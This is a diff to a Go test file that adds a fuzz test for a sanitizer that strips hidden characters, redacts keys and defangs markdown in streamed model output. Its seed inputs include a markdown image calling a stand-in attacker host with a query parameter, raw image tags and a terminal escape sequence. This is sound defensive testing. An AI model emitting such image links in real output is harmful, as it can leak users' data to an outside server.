@@ -4,8 +4,10 @@ import (
 	"encoding/json"
 	"strings"
 	"testing"
+	"unicode/utf8"
 
 	"github.com/aide-lsp/aide-lsp/model"
+	"github.com/aide-lsp/aide-lsp/planview"
 )
 
 // hostile is text a model or a repository could send: terminal controls,
@@ -158,4 +160,36 @@ func TestIncompleteRune(t *testing.T) {
 	if got != "héllo → wörld\n" {
 		t.Errorf("runes cut by pieces: %q", got)
 	}
+}
+
+// FuzzStream: the model's text, cut anywhere, reaches the client as
+// exactly the border's text of the whole (hidden characters removed, keys
+// redacted, defanged plain): nothing slips through a cut, and every piece
+// sent is valid UTF-8 (JSON would mangle it otherwise).
+func FuzzStream(f *testing.F) {
+	f.Add("![a](b)\n<img>", 1)
+	f.Add("```\n![x](y)\n```\n", 3)
+	f.Add("a!\n[b](c)", 2)
+	f.Add("Plan:\n![x](http://evil.example/?k=v) and <img src=x>\n```html\n<img src=ok>\n```\n!", 1)
+	f.Add("key "+fakeKey+"\x1b[2J\u200b end", 1)
+	f.Fuzz(func(t *testing.T, text string, n int) {
+		if n <= 0 || n > 64 {
+			return
+		}
+		want := planview.DefangPlain(model.Redact(Strip(text)))
+		var b strings.Builder
+		st := NewStream(func(s string) {
+			if !utf8.ValidString(s) {
+				t.Fatalf("sent %q: not valid UTF-8", s)
+			}
+			b.WriteString(s)
+		})
+		for i := 0; i < len(text); i += n {
+			st.Write(text[i:min(i+n, len(text))])
+		}
+		st.Flush()
+		if got := b.String(); got != want {
+			t.Fatalf("cut every %d: %q, want %q", n, got, want)
+		}
+	})
 }
